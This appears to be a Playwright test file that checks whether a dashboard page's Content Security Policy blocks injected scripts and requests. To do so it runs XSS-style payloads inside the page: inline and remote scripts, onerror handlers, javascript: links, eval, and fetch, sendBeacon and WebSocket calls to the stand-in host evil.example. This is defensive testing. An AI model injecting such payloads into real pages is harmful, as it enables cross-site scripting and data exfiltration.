import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { findLayoutFaults } from '../../scripts/gallery/layout.ts';
import { type PageServer, servePages } from '../../scripts/gallery/server.ts';
import { Problems, Stage } from '../../scripts/gallery/stage.ts';
import type { GalleryState } from '../../scripts/gallery/states.ts';
import { openBrowser } from '../../scripts/vscodeHost/browser.ts';
import { snapshotMessage } from '../fixtures/dashboard.ts';
import { hostileTablesOf, hostileTexts } from '../fixtures/hostile.ts';

const hostile: GalleryState = {
  name: 'hostileTexts',
  snapshot: snapshotMessage(hostileTablesOf(Object.values(hostileTexts), false)),
  subjects: [],
};

/** What got through, and which directives stopped what did not. */
interface Tried {
  readonly done: readonly string[];
  readonly stopped: readonly string[];
}

/** Tries all that injected markup or a script of somebody else would; runs in the page. */
async function tryEverything(): Promise<Tried> {
  const stopped = new Set<string>();
  const done: string[] = [];
  Object.assign(window, { evil: (what: string) => done.push(what) });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    stopped.add(effectiveDirective),
  );
  const elsewhere = 'https://evil.example/x';
  const make = <N extends keyof HTMLElementTagNameMap>(name: N, fields: Partial<HTMLElementTagNameMap[N]>) =>
    document.body.appendChild(Object.assign(document.createElement(name), fields));
  const attempts: readonly (() => unknown)[] = [
    () => make('script', { textContent: 'evil("inline script")' }),
    () => make('script', { src: elsewhere }),
    () =>
      make('div', { innerHTML: '<img src="data:," onerror="evil(\'handler\')"><b style="color: red">b</b>' }),
    () => make('a', { href: 'javascript:evil("javascript:")' }).click(),
    () => make('img', { src: elsewhere }),
    () => make('iframe', { src: elsewhere }),
    () => make('object', { data: elsewhere }),
    () => make('video', { src: elsewhere }),
    () => make('style', { textContent: 'body { color: red }' }),
    () => make('link', { rel: 'stylesheet', href: elsewhere }),
    () => make('base', { href: elsewhere }),
    () => make('form', { action: elsewhere, method: 'post' }).submit(),
    () => new FontFace('evil', `url(${elsewhere})`).load(),
    () => fetch(elsewhere),
    () => navigator.sendBeacon(elsewhere, 'x'),
    () => new WebSocket('wss://evil.example'),
    () => new EventSource(elsewhere),
    () => new Worker(URL.createObjectURL(new Blob(['evil("worker")']))),
    () => import(`data:text/javascript,${encodeURIComponent('window.evil("import")')}`),
    // biome-ignore lint/security/noGlobalEval: it is to be refused
    () => globalThis.eval('window.evil("eval")'),
    () => new Function('window.evil("Function")')(),
  ];
  for (const attempt of attempts)
    try {
      await Promise.resolve(attempt()).catch(() => {});
    } catch {
      // A refusal.
    }
  const wanted = 14;
  for (let turn = 0; turn < 600 && stopped.size < wanted; turn++)
    await new Promise((next) => setTimeout(next, 50));
  return { done, stopped: [...stopped].sort() };
}

/** Texts from the right that stand in one line with others and are not kept apart; runs in the page. */
function findMixedTexts(): string[] {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const faults: string[] = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const text = (node.textContent ?? '').replace(/\u2068[^\u2068\u2069]*\u2069/g, '');
    if (!/[\u0590-\u08ff]/.test(text)) continue;
    let element = node.parentElement;
    while (element) {
      const { display, unicodeBidi } = getComputedStyle(element);
      if (display !== 'inline' || /isolate|plaintext/.test(unicodeBidi)) break;
      element = element.parentElement;
    }
    const around = (element?.textContent ?? '').replaceAll('שלום', '').replaceAll('42', '');
    if (/[a-z]/i.test(around)) faults.push(`${element?.className}: ${element?.textContent?.slice(0, 80)}`);
  }
  return [...new Set(faults)];
}

describe('the page as a browser guards it', () => {
  let browser: Browser;
  let server: PageServer;
  const open = (width = 1280) => Stage.open(browser, server, new Problems(), { theme: 'dark', width });

  before(async () => {
    server = await servePages({ [hostile.name]: hostile });
    browser = await openBrowser();
  });
  after(async () => {
    await browser?.close();
    server?.stop();
  });

  it('runs, loads and sends nothing that is not its own, whatever tries to', async () => {
    const stage = await open();
    await stage.show(hostile);
    const foreign: string[] = [];
    // What the policy stops does not come as far as that.
    await stage.page.route(/^(?!http:\/\/127\.0\.0\.1:)/, async (route) => {
      foreign.push(route.request().url());
      await route.abort();
    });
    const before = stage.page.url();
    const { done, stopped } = await stage.page.evaluate(tryEverything);
    assert.deepEqual(done, [], 'nothing was run');
    assert.deepEqual(foreign, [], 'nothing was asked of another host');
    assert.equal(stage.page.url(), before);
    assert.deepEqual(stopped, [
      'base-uri',
      'connect-src',
      'font-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
      'worker-src',
    ]);
    await stage.close();
  });

  for (const width of [1280, 320])
    it(`keeps hostile texts in their place and their order in ${width} px`, async () => {
      const stage = await open(width);
      await stage.show(hostile);
      assert.deepEqual(await stage.page.evaluate(findLayoutFaults), []);
      assert.deepEqual(await stage.page.evaluate(findMixedTexts), []);
      await stage.close();
    });
});
